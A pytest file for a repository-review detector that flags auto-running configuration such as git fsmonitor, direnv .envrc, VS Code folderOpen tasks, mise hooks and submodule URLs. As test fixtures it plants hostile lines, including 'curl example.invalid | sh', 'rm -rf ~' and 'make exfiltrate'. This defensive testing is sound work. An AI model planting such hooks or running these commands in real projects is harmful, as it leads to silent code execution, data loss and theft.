"""One table, three cases per detector: found, not found, and already there at start.

*found*: the planted thing gives exactly one finding of its kind, at its path, with
its severity and a summary naming what would run or be read. *not found*: a clean
repository or a benign variant gives none. *pre-existing*: what was there when the
review baseline was taken is not new; changing its content makes it new again.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from typing import get_args

import pytest

from cloister_cli.session.review import FindingKind, Severity, new_findings
from tests.cli.session.review.conftest import Project, of_kind

Step = Callable[[Project], object]


@dataclass(frozen=True)
class Case:
    kind: FindingKind
    path: str  # may hold "{outside}"
    severity: Severity
    says: str  # in the summary; may hold "{outside}"
    plant: Step
    benign: Step  # a clean or harmless variant: no finding of the kind
    change: Step  # the planted thing with other content: a new fingerprint

    def expand(self, text: str, project: Project) -> str:
        return text.format(outside=project.outside)


def _tasks(command: str, run_on: str | None) -> Step:
    options = f'"runOptions": {{"runOn": "{run_on}"}}, // run it\n' if run_on else ""
    text = (
        "// VS Code tasks, JSONC\n{\n"
        '  "version": "2.0.0",\n'
        '  "tasks": [\n'
        "    {\n"
        '      "label": "watch /* not a comment */",\n'
        f'      "command": "{command}",\n'
        f"      {options}"
        '      "type": "shell",\n'
        "    },\n"
        "  ],\n"
        "}\n"
    )
    return lambda project: project.write(".vscode/tasks.json", text)


def _workspace(command: str, run_on: str | None, name: str = "app.code-workspace") -> Step:
    """A workspace file with its own tasks (``tasks.tasks``), JSONC like tasks.json."""
    options = f'"runOptions": {{"runOn": "{run_on}"}},' if run_on else ""
    text = (
        "{\n"
        '  "folders": [{"path": "."}], // the project\n'
        '  "tasks": {\n'
        '    "version": "2.0.0",\n'
        f'    "tasks": [{{"label": "dev", "type": "shell", "command": "{command}", {options}}},],\n'
        "  },\n"
        "}\n"
    )
    return lambda project: project.write(f"tools/{name}", text)


def _mise(enter: str) -> Step:
    text = f'[tools]\nnode = "22"\n\n[hooks]\nenter = "{enter}"\n'
    return lambda project: project.write("mise.toml", text)


def _outside_file(project: Project, name: str) -> str:
    path = project.outside / name
    path.write_text("the human's file\n", encoding="utf-8")
    return str(path)


CASES: dict[str, Case] = {
    "nested-repository": Case(
        "nested-repository",
        "sub/",
        "runs-code",
        "git runs `touch marker` (core.fsmonitor) whenever you run git status",
        plant=lambda p: p.nested("sub", ("core.fsmonitor", "touch marker")),
        benign=lambda p: p.nested("sub", ("user.name", "Agent"), ("core.fsmonitor", "false")),
        change=lambda p: p.git("-C", "sub", "config", "core.fsmonitor", "touch other"),
    ),
    "attributes-driver": Case(
        "attributes-driver",
        "docs/.gitattributes",
        "review",
        "your config defines for filter `evil` on `*.bin` files",
        plant=lambda p: p.write("docs/.gitattributes", "* text=auto\n*.bin filter=evil -text\n"),
        benign=lambda p: p.write("docs/.gitattributes", "* text=auto\n*.png binary -diff\n"),
        change=lambda p: p.write("docs/.gitattributes", "*.bin filter=evil diff=evil\n"),
    ),
    "envrc": Case(
        "envrc",
        "sub/.envrc",
        "runs-code",
        "direnv runs this script (`curl example.invalid | sh`…) when you enter sub/",
        plant=lambda p: p.write("sub/.envrc", "# setup\ncurl example.invalid | sh\n"),
        benign=lambda p: p.write("sub/.env", "FOO=1\n"),
        change=lambda p: p.write("sub/.envrc", "# setup\nrm -rf ~\n"),
    ),
    "vscode-task": Case(
        "vscode-task",
        ".vscode/tasks.json",
        "runs-code",
        "VS Code runs `make watch` when you open the folder",
        plant=_tasks("make watch", "folderOpen"),
        benign=_tasks("make watch", None),
        change=_tasks("make exfiltrate", "folderOpen"),
    ),
    "vscode-workspace": Case(
        "vscode-task",
        "tools/app.code-workspace",
        "runs-code",
        "VS Code runs `npm run dev` when you open this workspace",
        plant=_workspace("npm run dev", "folderOpen"),
        benign=_workspace("npm run dev", "default"),
        change=_workspace("npm run exfiltrate", "folderOpen"),
    ),
    "mise": Case(
        "mise",
        "mise.toml",
        "runs-code",
        "mise runs `./bin/setup` (the `enter` hook) when you enter the project (mise activated)",
        plant=_mise("./bin/setup"),
        benign=lambda p: p.write("mise.toml", '[tools]\nnode = "22"\n[tasks.setup]\nrun = "x"\n'),
        change=_mise("curl example.invalid | sh"),
    ),
    "hook-config": Case(
        "hook-config",
        ".pre-commit-config.yaml",
        "runs-code",
        "pre-commit runs the hooks this file lists when you commit",
        plant=lambda p: p.write(".pre-commit-config.yaml", "repos: []\n"),
        benign=lambda p: p.write("docs/.pre-commit-config.yaml", "repos: []\n"),
        change=lambda p: p.write(".pre-commit-config.yaml", "repos: [{repo: local}]\n"),
    ),
    "gitmodules": Case(
        "gitmodules",
        ".gitmodules",
        "review",
        "`git submodule update` clones from these URLs: https://example.invalid/lib.git",
        plant=lambda p: p.write(
            ".gitmodules",
            '[submodule "lib"]\n\tpath = lib\n\turl = https://example.invalid/lib.git\n',
        ),
        benign=lambda p: (p.root / ".gitmodules").mkdir(),  # Cloister's placeholder
        change=lambda p: p.write(
            ".gitmodules", '[submodule "lib"]\n\tpath = lib\n\turl = https://evil.invalid/x.git\n'
        ),
    ),
    "outside-symlink": Case(
        "outside-symlink",
        "docs/notes",
        "reads-outside",
        "an editor or a hostexec command that opens it reads {outside}/notes",
        plant=lambda p: p.link("docs/notes", _outside_file(p, "notes")),
        benign=lambda p: p.link("docs/notes", "../README"),
        change=lambda p: p.link("docs/notes", _outside_file(p, "other-notes")),
    ),
}


def test_the_table_covers_every_kind() -> None:
    assert {case.kind for case in CASES.values()} == set(get_args(FindingKind))


@pytest.mark.parametrize("name", list(CASES))
def test_found(project: Project, name: str) -> None:
    case = CASES[name]
    case.plant(project)
    found = of_kind(project.review(), case.kind)
    assert [(item.kind, item.path, item.severity) for item in found] == [
        (case.kind, case.expand(case.path, project), case.severity)
    ]
    assert case.expand(case.says, project) in found[0].summary
    assert "\n" not in found[0].summary


@pytest.mark.parametrize("name", list(CASES))
def test_not_found(project: Project, name: str) -> None:
    case = CASES[name]
    assert of_kind(project.review(), case.kind) == []  # a clean repository
    case.benign(project)
    assert of_kind(project.review(), case.kind) == []


@pytest.mark.parametrize("name", list(CASES))
def test_pre_existing(project: Project, name: str) -> None:
    case = CASES[name]
    case.plant(project)
    baseline = {item.fingerprint for item in project.review()}
    assert new_findings(project.review(), baseline) == []  # the same thing: not new
    case.change(project)
    again = new_findings(project.review(), baseline)
    assert [item.kind for item in again if item.kind == case.kind] == [case.kind]
